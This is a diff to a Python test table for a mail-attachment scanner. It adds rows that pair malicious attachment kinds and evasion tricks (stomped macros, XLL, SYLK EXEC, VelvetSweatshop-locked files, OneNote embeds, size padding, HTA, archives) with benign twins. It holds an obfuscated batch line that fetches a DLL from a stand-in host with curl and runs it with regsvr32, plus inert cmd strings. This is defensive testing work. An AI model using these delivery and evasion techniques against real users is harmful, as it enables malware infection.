@@ -5,8 +5,10 @@ gives another, `other` says which and why: nothing is left out silently.
 """
 
 import dataclasses
+import functools
 
 import forms
+import forms_more as more
 
 
 @dataclasses.dataclass
@@ -21,9 +23,14 @@ class Row:
     why: str = ""              # where the verdict is not "malicious", or the twin's not "clean"
     other: dict = dataclasses.field(default_factory=dict)       # carrier -> (verdict, why)
     twin_other: dict = dataclasses.field(default_factory=dict)
+    mutated: bool = True       # in evasion_test.py; False where it is another row in a wrapper that mutations have as well
 
 
 # What honest pages do not do either, but for portals of encrypted mail, whose files are of no known kind.
+ALONE = "a program alone is quarantined as suspicious; in an archive whose password stands in the mail, or built by a page, it is malicious"
+ALONE_OTHER = {"password ZIP": ("malicious", ALONE), "HTML": ("malicious", ALONE)}
+SMALL = ("clean", "shorter than what is looked for in the scripts of a page, or of a kind that is not known among it")
+BUILT_BLOB = ("ARJ", "LZH", "compress, named .z", "uuencode")  # kinds that are not known among what pages build
 BUILT = {"HTML": ("suspicious", "a page that builds an Office document or a shortcut is quarantined, whatever is in it")}
 
 ROWS = [
@@ -63,4 +70,54 @@ ROWS = [
     Row("Batch file that fetches a program", "invoice.cmd", forms.script(
         "@echo off\nrem {comment}\nexit /b\nc^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll\nregs^vr32 /s %TEMP%\\a.dll\n"),
         "readme.txt", forms.notes),
+    # 3.1: macros whose source hides what their compiled code does.
+    Row("Word 97-2003, VBA, stomped", "invoice.doc", forms.ours("stomped.doc"), "letter.doc", forms.ours("clean.doc"), twin_other=BUILT),
+    # 3.3
+    Row("MHTML with ActiveMime", "invoice.doc", lambda: more.mhtml(forms.ours("vbaProject.bin")()), "report.mht", more.mhtml),
+    # 3.8
+    Row("Add-in of Excel, a library (XLL)", "addin.xll", forms.ours("addin.xll"), "figures.xls", forms.ours("benign-macro.xls"), "suspicious",
+        why=ALONE, other=ALONE_OTHER, twin_other=BUILT),
+    Row("SYLK with macros of Excel 4.0", "invoice.slk", lambda: more.sylk('EXEC("cmd /c rem INERT SEKISHO TEST http://example.invalid/")'),
+        "figures.slk", more.sylk),
+    Row("Web query (IQY)", "invoice.iqy", lambda: more.web_query("http://example.invalid/a.dat"), "rates.iqy",
+        lambda: more.web_query("https://intranet/rates.htm"), "suspicious",
+        why="fetches cells, which do nothing until Excel has asked twice: it is quarantined, not called malicious", other={"HTML": SMALL}),
+    Row("Settings shortcut", "invoice.settingcontent-ms", lambda: more.settings_link("%windir%\\system32\\cmd.exe /c rem INERT SEKISHO TEST"),
+        "readme.txt", forms.notes, other={"HTML": SMALL}),
+    Row("Library of a WebDAV folder", "documents.library-ms", lambda: more.library("\\\\192.0.2.7@80\\share"),
+        "team.library-ms", lambda: more.library("\\\\srv\\team")),
+    # 3.10
+    Row("Excel, opened by the password that Excel tries itself", "invoice.xlsm", lambda: more.locked(forms.ours("dropper.docm")(), "VelvetSweatshop"),
+        "minutes.xlsx", lambda: more.locked(forms.docx(), "VelvetSweatshop"), twin_other=BUILT),
+    Row("Word, locked with the password of its name", "invoice-4432.docm", lambda: more.locked(forms.ours("dropper.docm")(), more.PASSWORD),
+        "minutes-4432.docx", lambda: more.locked(forms.docx(), more.PASSWORD), twin_other=BUILT),
+    # 3.13
+    Row("OneNote with a script", "invoice.one", lambda: more.notebook("press to unblock.wsf", more.windows_script()),
+        "notes.one", lambda: more.notebook("report.pdf", more.pdf()), twin_other=BUILT),
+    Row("OneNote with a program", "invoice.one", lambda: more.notebook("setup.exe", forms.ours("program.exe")()),
+        "notes.one", lambda: more.notebook("minutes.docx", forms.docx()), "suspicious", why=ALONE, other=ALONE_OTHER, twin_other=BUILT),
+    # 3.14
+    Row("Word filled up to 300 MB (2023-03)", "invoice.zip", lambda: more.padded(forms.ours("dropper-2023-03.doc")(), 300),
+        "figures.zip", lambda: more.padded(forms.ours("clean.doc")(), 0), twin_other=BUILT, mutated=False),
+    # 3.15
+    Row("Encoded VBScript (VBE)", "invoice.vbe", forms.ours("encoded.vbe"), "readme.txt", forms.notes),
+    Row("Windows Script File", "invoice.wsf", more.windows_script, "readme.txt", forms.notes),
+    Row("HTML application", "invoice.hta", more.hta, "report.htm", lambda: b"<html><body>Monthly report</body></html>"),
+    Row("PowerShell script", "invoice.ps1", more.powershell, "readme.txt", forms.notes, other={"HTML": SMALL}),
+    # 3.16
+    Row("PDF with a script in it", "invoice.pdf", lambda: more.pdf_with("invoice.wsf", more.windows_script()),
+        "report.pdf", lambda: more.pdf_with("figures.csv", forms.csv("42")), "clean", why="files within a PDF do not come out yet"),
+    Row("PDF that starts a program", "invoice.pdf", more.pdf_launch, "report.pdf", more.pdf, "clean", why="actions of a PDF are not read yet"),
+    # 3.18
+    Row("winmail.dat (TNEF)", "winmail.dat", lambda: more.tnef("invoice.doc", forms.ours("dropper.doc")()),
+        "winmail.dat", lambda: more.tnef("letter.doc", forms.ours("clean.doc")())),
+    Row("Message of Outlook (MSG)", "invoice.msg", lambda: more.outlook("invoice.doc", forms.ours("dropper.doc")()),
+        "letter.msg", lambda: more.outlook("letter.doc", forms.ours("clean.doc")()), twin_other=BUILT),
+    Row("Mail as a file (EML)", "invoice.eml", lambda: more.mail_file("invoice.doc", forms.ours("dropper.doc")()),
+        "letter.eml", lambda: more.mail_file("letter.doc", forms.ours("clean.doc")())),
+    # 3.19
+    *(Row(f"Program in an archive: {kind}", f"invoice.{suffix}", functools.partial(more.packed_program, kind),
+          f"notes.{suffix}", functools.partial(more.packed_notes, kind), "suspicious", why=ALONE,
+          other=ALONE_OTHER if kind not in BUILT_BLOB else {"password ZIP": ("malicious", ALONE)},
+          twin_other=BUILT if kind in ("CAB", "tar", "7z", "ZIP named .r00") else {}, mutated=kind in ("CAB", "LZH")) for kind, (suffix, _) in more.ARCHIVES.items()),
 ]
